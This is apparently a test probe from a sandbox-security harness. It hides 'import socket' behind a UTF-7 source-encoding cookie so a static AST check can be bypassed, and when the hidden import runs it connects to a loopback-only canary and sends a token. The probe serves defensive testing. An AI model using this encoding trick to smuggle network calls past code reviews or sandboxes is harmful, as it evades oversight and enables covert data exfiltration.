#!/usr/bin/env python3 -*- coding: utf-7 -*-
# sandbox-harness: probe
# id: ast.coding-utf7
# family: ast-bypass
# controls: ast, network
# expect: report
# image: all
# args: {canary_host} {canary_tcp_port} {canary_udp_port} {token}
# summary: hides "import socket" behind a UTF-7 source encoding (a comment when read as UTF-8); the AST check must decode like the interpreter, the network control must stop the rest
"""Source encoding tricks. The coding cookie on the first line makes Python decode this file as
UTF-7. Read as UTF-8 (as an editor or a text-based check would), the marked line below is a
comment; decoded as UTF-7, the plus-AAo-minus sequence is a newline and the rest of that line is code.
The AST check compiles the raw bytes, so it decodes as the interpreter does and rejects the hidden
import. With the check off, the hidden socket connects to the canary (token included).
This file avoids the plus sign everywhere else, since UTF-7 gives it a meaning.
"""
import ipaddress
import json
import sys

net = None
# hidden line: +AAo-import socket as net


def report(escaped, detail, **evidence):
    line = {"escaped": bool(escaped), "detail": detail}
    line.update(evidence)
    sys.stdout.write("SANDBOX-PROBE %s\n" % json.dumps(line, sort_keys=True))
    sys.stdout.flush()


def main():
    host, port, token = sys.argv[1], int(sys.argv[2]), sys.argv[4]
    if not ipaddress.ip_address(host).is_loopback:
        sys.exit("refusing a non-loopback canary address: %s" % host)
    if net is None:
        report(False, "the hidden import did not run: the file was not decoded as UTF-7")
        return
    s = net.socket(net.AF_INET, net.SOCK_STREAM)
    s.settimeout(2)
    try:
        s.connect((host, port))
    except OSError as e:
        report(False, "hidden import ran; connect failed: %s" % (e.strerror or type(e).__name__))
        return
    s.sendall(("SANDBOX-HARNESS ast.coding-utf7 %s\n" % token).encode())
    s.close()
    report(True, "hidden import ran and connected to the canary")


main()
